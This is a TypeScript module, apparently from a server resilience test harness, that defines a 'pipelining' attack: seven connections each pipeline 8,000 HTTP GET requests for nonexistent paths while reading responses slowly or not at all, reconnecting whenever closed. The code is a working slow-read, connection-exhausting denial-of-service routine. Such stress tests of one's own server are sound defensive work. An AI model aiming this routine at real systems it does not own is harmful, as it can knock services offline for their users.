import type { Socket } from 'node:net'
import { countStatuses, open, pause } from './connections'
import type { Attack, Context } from './context'

const REQUESTS = 8_000

type Reading = (socket: Socket, context: Context) => void

/** Never reads a response. */
function readNothing(socket: Socket) {
  socket.pause()
}

/** Reads 10 kB a second. */
function readSlowly(socket: Socket, { signal }: Context) {
  socket.pause()
  const timer = setInterval(() => socket.read(1_000), 100)
  for (const end of ['close', 'end']) socket.once(end, () => clearInterval(timer))
  signal.addEventListener('abort', () => clearInterval(timer), { once: true })
}

const lines: { reading: Reading; pathOf: (n: number) => string }[] = [
  { reading: readNothing, pathOf: (n) => `/tidak-ada-${n}` },
  { reading: readNothing, pathOf: (n) => `/berkas-${n}.y` },
  { reading: readNothing, pathOf: (n) => `/api/artikel/tidak-ada-${n}` },
  { reading: readSlowly, pathOf: (n) => `/artikel/tidak-ada-${n}.md` },
  { reading: readSlowly, pathOf: (n) => `/cari?q=kata${n}` },
  { reading: countStatuses, pathOf: (n) => `/kategori/tidak-ada-${n}` },
  { reading: countStatuses, pathOf: (n) => `/folder/tidak-ada-${n}.md` },
]

/** Pipelines 8,000 requests for unknown paths on each of seven connections; reconnects when one is closed. */
export const pipelining: Attack = async (context) => {
  await Promise.all(
    lines.map(async ({ reading, pathOf }, line) => {
      while (!context.signal.aborted) {
        const socket = await open(context, context.clientAddress(line))
        if (socket) await pipeline(socket, context, reading, pathOf)
        await pause(200, context)
      }
    }),
  )
}

/** Resolves when the connection is closed. */
async function pipeline(socket: Socket, context: Context, reading: Reading, pathOf: (n: number) => string) {
  const requests = Array.from({ length: REQUESTS }, (_, n) => `GET ${pathOf(n)} HTTP/1.1\r\nHost: x\r\n\r\n`)
  reading(socket, context)
  socket.write(requests.join(''))
  await new Promise((resolve) => socket.once('close', resolve))
}
